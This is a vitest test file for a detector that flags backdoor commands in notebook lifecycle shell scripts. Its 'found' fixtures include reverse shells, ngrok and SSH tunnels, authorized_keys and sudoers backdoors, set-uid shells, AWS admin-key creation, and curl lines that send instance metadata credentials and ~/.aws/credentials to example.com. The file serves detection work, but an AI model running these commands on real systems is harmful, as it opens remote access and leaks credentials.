import { expect, test } from "vitest";
import { waysIn } from "#lib/analysis/scripts/ways-in.ts";

const found: Record<string, string> = {
  "a key": 'echo "ssh-rsa AAAA x@y" >> /home/ec2-user/.ssh/authorized_keys',
  "a key by tee": "cat k.pub | sudo tee -a /root/.ssh/authorized_keys",
  "a key by copying": "sudo cp k.pub /root/.ssh/authorized_keys",
  "a key of a GitHub user": "ssh-import-id gh:someone",
  "the shell of every handbook": "bash -i >& /dev/tcp/192.0.2.1/443 0>&1",
  "a shell in quotes": "nohup bash -c 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1' &",
  "a descriptor": "exec 5<>/dev/tcp/192.0.2.1/443; cat <&5 | while read l; do $l; done",
  netcat: "nc -e /bin/sh 192.0.2.1 443",
  "netcat with the host first": "ncat 192.0.2.1 443 --sh-exec bash",
  "a pipe file": "mkfifo /tmp/f; nc 192.0.2.1 443 < /tmp/f | sh > /tmp/f",
  socat: "socat tcp:192.0.2.1:443 exec:'bash -li',pty",
  "Python's socket": `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.1",443));os.dup2(s.fileno(),0);pty.spawn("sh")'`,
  ngrok: "nohup ngrok http 8888 --log /tmp/ngrok.log &",
  "ngrok in a container": "docker run --rm ngrok/ngrok http 8888",
  cloudflared: "./cloudflared tunnel --url http://localhost:8888",
  "an SSH tunnel back": "ssh -o ServerAliveInterval=60 -fNR 9000:localhost:22 user@192.0.2.1",
  "an SSH tunnel by its path": "/usr/bin/ssh -R $PORT:localhost:22 user@192.0.2.1",
  autossh: "autossh -M 0 -R 9000:localhost:8888 tunnel@example.com",
  tailscale: "tailscale up --authkey $KEY",
  "an editor's tunnel": "./code tunnel --accept-server-license-terms",
  sshd: "sudo systemctl start sshd",
  "sshd itself": "sudo /usr/sbin/sshd -p 2222",
  "sshd, old style": "service ssh start",
  "a hybrid activation": "amazon-ssm-agent -register -code $CODE -id $ID -region us-east-1",
  "a user": "useradd -m backup",
  "a sudoer": 'echo "u ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/u',
  "a set-uid bit": "chmod u+s /tmp/b",
  "a set-uid shell": "cp /bin/bash /tmp/b && chmod 4755 /tmp/b",
  "an access key": "aws iam create-access-key --user-name admin",
  "a policy": "aws iam attach-role-policy --role-name r --policy-arn arn:aws:iam::aws:policy/AdministratorAccess",
  "Jupyter without a token": "echo \"c.ServerApp.token = ''\" >> ~/.jupyter/jupyter_server_config.py",
  "Jupyter without an origin": "sed -i 's/x/c.NotebookApp.allow_origin = \"*\"/' c.py",
  "credentials that go out":
    'C=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/BaseNotebookInstanceEc2InstanceRole)\ncurl -X POST -d "$C" https://example.com/in',
  "the file of credentials": "curl -F f=@/home/ec2-user/.aws/credentials https://example.com/in",
};

test.each(Object.entries(found))("is found: %s", (_, script) => {
  expect(waysIn(`#!/bin/bash\n${script}`)).toHaveLength(1);
});

const harmless: Record<string, string> = {
  "a config of one's own": "mkdir -p ~/.ssh && chmod 700 ~/.ssh && cat ~/.ssh/authorized_keys",
  "a port that is tried": "timeout 3 bash -c '</dev/tcp/example.com/443' && nc -z example.com 443",
  "a port that is tried, with words": "nc -zv -w 3 example.com 443",
  "an SSH tunnel out": "ssh -fNL 5432:db.internal:5432 jump@bastion.internal",
  "a copy": "scp -r user@host:/data . && rsync -e 'ssh -p 22' a b",
  "idle scripts": "(crontab -l; echo '*/5 * * * * /usr/bin/python3 /opt/autostop.py --time 3600') | crontab -",
  "a group": "usermod -aG users ec2-user && usermod -aG docker ec2-user",
  "a user of a service": "useradd -r -s /sbin/nologin exporter && useradd --system collector",
  "sshd that is stopped, looked for and set": "systemctl stop sshd && pgrep sshd; ps aux | grep sshd; sshd -t",
  "an agent for keys": "eval $(ssh-agent -s) && ssh-add ~/.ssh/id && systemctl start ssh-agent",
  "modes of a folder": "chown ec2-user ~/.ssh -R && chmod -R 600 ~/.ssh\nssh jump@bastion.internal chmod -R 755 /srv",
  "a group's folder": "chmod g+s /shared && chmod 2775 /shared",
  "a tunnel that is taken away": "pkill -f ngrok || true\npip uninstall -y localtunnel",
  "keys that are copied away": "cp ~/.ssh/authorized_keys /backup",
  "a question to Jupyter itself, with the role's credentials at hand":
    "echo $AWS_CONTAINER_CREDENTIALS_RELATIVE_URI >> ~/.bashrc\ncurl http://localhost:8888/api -d '{}'",
  modes: "chmod 755 /opt/x && chmod 0644 /etc/y && chmod +x z",
  "roles that are looked at": "aws iam get-role --role-name r && aws sts get-caller-identity",
  "a service": "systemctl restart jupyter-server && service docker start",
  "a Jupyter setting": "echo \"c.ServerApp.terminado_settings = {'shell_command': ['/bin/bash']}\" >> c.py",
  "a message to a channel": 'curl -X POST -d \'{"text":"up"}\' https://hooks.example.com/x',
  "the metadata that is read": "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
  "a comment": "# ngrok http 8888",
};

test.each(Object.entries(harmless))("is not taken for it: %s", (_, script) => {
  expect(waysIn(script)).toEqual([]);
});

test.each([
  ["names of tunnels", `which ${"ngrok ".repeat(3_000)}`],
  ["words of SSH", `ssh ${"-R a chmod ".repeat(2_000)}`],
  ["users", "useradd -m x -a ".repeat(1_000)],
  ["letters", "a".repeat(16_000)],
])("is done soon with thousands of %s", (_, script) => {
  const began = performance.now();
  waysIn(script);
  expect(performance.now() - began).toBeLessThan(2_000);
});

test("says which line, and what it does", () => {
  expect(waysIn("#!/bin/bash\n# open it\nnohup ngrok http 8888 &\n")).toEqual([
    { what: "opens a tunnel from outside", command: "ngrok http 8888 &", lines: [3] },
  ]);
});
